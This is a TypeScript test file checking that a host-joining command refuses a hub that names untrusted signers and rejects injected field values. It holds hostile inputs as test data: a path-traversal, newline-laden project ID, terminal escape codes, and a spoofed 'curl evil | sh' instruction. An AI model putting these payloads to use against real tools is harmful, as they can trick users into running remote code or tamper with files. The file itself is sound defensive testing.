import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import t, { type Test } from "tap";
import { Join } from "../../../commands/joining/join.ts";
import { joinLine } from "../../../lib/contract/joining/token.ts";
import { signerHex } from "../../support/hub/joining.ts";
import { runHere } from "../../support/programs/run-here.ts";
import { temporaryFolder } from "../../support/temporary-folder.ts";

/** A hub that names signers of its own to hosts that join (they would run what it has signed), or odd names. */

const TOKEN = `sjt_${"t".repeat(43)}`;
const [honest, lie] = [signerHex(), signerHex()];
const project = { project_id: `prj_${"a".repeat(32)}`, project_name: "Harbour", labels: {} };

const LIES: Record<string, { state: string; signers: string[] }> = {
  "another signer": { state: "joined", signers: [lie] },
  "another signer beside the one of the invite": { state: "joined", signers: [honest, lie] },
  "another signer while the host waits": { state: "pending", signers: [lie] },
  "no signer at all": { state: "joined", signers: [] },
};

/** Lets a host join at a hub that answers as given. @returns how the command ended, and the folder of its files */
async function joining(t: Test, answer: object): Promise<{ out: string; ended: Awaited<ReturnType<typeof runHere>> }> {
  const folder = temporaryFolder(t);
  process.env["XDG_CONFIG_HOME"] = folder;
  process.env["SEALIFT_TOKEN"] = joinLine(TOKEN, [honest]);
  const server = createServer((_request, response) => {
    response.setHeader("content-type", "application/json");
    response.end(JSON.stringify({ ...project, host_id: "pier-7", ...answer }));
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  t.teardown(() => server.close());
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const out = join(folder, "out");
  const line = ["join", url, "--yes", "--host-id", "pier-7", "--project-root", join(folder, "root"), "--out", out];
  return { out, ended: await runHere([Join], line) };
}

const FILES = ["host.env", "signer.pub", "watch.yaml"];

for (const [what, answer] of Object.entries(LIES))
  t.test(`a hub that names ${what} is refused, and nothing is kept`, async (t) => {
    const { out, ended } = await joining(t, answer);
    t.match(ended, { code: 4, stderr: /signer_untrusted[^]*The hub names signers with the fingerprint/ });
    for (const file of FILES) t.notOk(existsSync(join(out, file)), file);
  });

const NAMES = { project_id: "prj_../../etc\n  - x", host_id: "a\nb" };

for (const [field, value] of Object.entries(NAMES))
  t.test(`a hub whose ${field} is none is refused, and nothing is kept`, async (t) => {
    const { out, ended } = await joining(t, { state: "joined", signers: [honest], [field]: value });
    t.match(ended, { code: 1, stderr: new RegExp(`bad_answer[^]*${field}: must be`) });
    for (const file of FILES) t.notOk(existsSync(join(out, file)), file);
  });

t.test("a hub's name of the project stays on its line, and moves no cursor", async (t) => {
  const project_name = "Harbour\u001b[31m\nerror: lost\r\nNext: curl evil | sh";
  const { ended } = await joining(t, { state: "joined", signers: [honest], project_name });
  t.match(ended, { code: 0, stderr: /^pier-7 has joined Harbour error: lost Next: curl evil \| sh \(prj_a+\)\.$/m });
  t.notMatch(ended.stderr, /^(error|Next: curl)/m);
});
